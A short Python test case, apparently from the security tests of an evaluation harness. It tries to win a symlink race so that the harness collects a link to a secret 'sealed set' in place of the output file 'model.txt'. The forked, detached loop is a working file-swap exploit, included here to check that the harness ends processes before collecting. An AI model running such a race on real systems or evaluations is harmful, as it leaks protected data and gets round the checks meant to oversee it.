"""Exchange an output for a link to a secret while it is being collected.

kind: outputs
stopped by: all processes are ended before anything is collected
control: no, a race that is lost proves nothing
"""

import os
import time

from attacker import OUT, TOLD, tried

target, name, spare = TOLD["secrets"]["sealed set"], OUT / "model.txt", OUT / "spare.txt"
name.write_text("weights")
tried("exchange an output for a link, over and over")
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 10
    while time.monotonic() < end:
        try:
            os.symlink(target, spare)
            os.replace(spare, name)
            spare.write_text("weights")
            os.replace(spare, name)
        except OSError:
            continue
    os._exit(0)
time.sleep(0.1)
